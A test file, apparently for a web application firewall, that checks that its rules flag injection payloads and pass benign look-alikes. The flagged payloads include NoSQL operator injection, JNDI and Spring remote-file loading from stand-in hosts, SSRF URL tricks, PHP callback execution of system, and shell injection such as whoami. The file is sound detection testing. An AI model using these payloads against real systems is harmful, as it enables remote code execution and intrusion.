local rule_checks = require "rule_checks"

-- The fourteenth and fifteenth blind sets (tests/edge_security/family_gen_blind_{fourteenth,fifteenth}.py):
-- the families they found uncovered, value by value.
describe("edge.waf.rules fourteenth and fifteenth blind sets", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("142290: MongoDB operators where a value was expected", function()
        caught_by(142290, { "{\"$ne\": null}", "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$gt\": \"\"}}",
            "user[$ne]", "$where", "$gt" })
        clean({ "it costs $ne 5", "prices in $ and €", "{\"amount\": \"$10\"}", "the $or operator in Mongo" })
    end)

    it("Java: JDBC options that replicate or write files, Spring properties loading remote files, JNDI by IP", function()
        caught_by(144160, { "jdbc:derby:memory:db;create=true;startMaster=true;slaveHost=198.51.100.7",
            "jdbc:postgresql://h/db?loggerFile=/var/www/x.jsp" })
        caught_by(144180, { "spring.cloud.bootstrap.location=http://198.51.100.4/x.yml", "logging.config=http://x.example/l.xml",
            "{\"name\":\"spring.main.sources\",\"value\":\"http://x.example/evil.groovy\"}",
            "eureka.client.serviceUrl.defaultZone=http://x.example/xstream" })
        caught_by(131210, { "ldap://198.51.100.5:389/cn=Exploit,dc=example,dc=org", "rmi://203.0.113.7:1099/x" })
        clean({ "jdbc:postgresql://db.example.com:5432/orders", "ldap://ldap.example.com/dc=example,dc=com",
            "logging.config is set in application.yml" })
    end)

    it("SSRF: hosts parsers disagree on, dotted quads past 255", function()
        caught_by(131200, { "http://evil.example#@127.0.0.1/", "http://425.510.425.510/", "http://10.0.0.300/" })
        clean({ "https://example.com/#@ann", "version 1.2.3.4000" })
    end)

    it("PHP, Ruby and shell: FILTER_CALLBACK, /e alone, comments before a call's parenthesis, reflection, end tags", function()
        caught_by(133110, { "filter_var('id',FILTER_CALLBACK,['options'=>'system']);", "/.*/e" })
        caught_by(132120, { "exec //\n('id');", "system/**/('id');" })
        caught_by(132210, { "__send__(:instance_variable_get, :@secret)", "obj.send(:const_get, :Kernel)" })
        caught_by(132100, { "<cmd>&& whoami</cmd>", "<a>;w'h'o'am'i</a>" })
        caught_by(132180, { "id;", "whoami&&" })
        caught_by(142120, { "1 and 5>4", "x' or 2 > 1--" })
        clean({ "5 < 10 and 10 > 5", "2 < 3 and 5 > 4", "if a >= 10 or 20 < b" })
        clean({ "/home/e", "filter_var($email, FILTER_VALIDATE_EMAIL)", "<b>cats & dogs</b>", "ids;", "id" })
    end)
end)
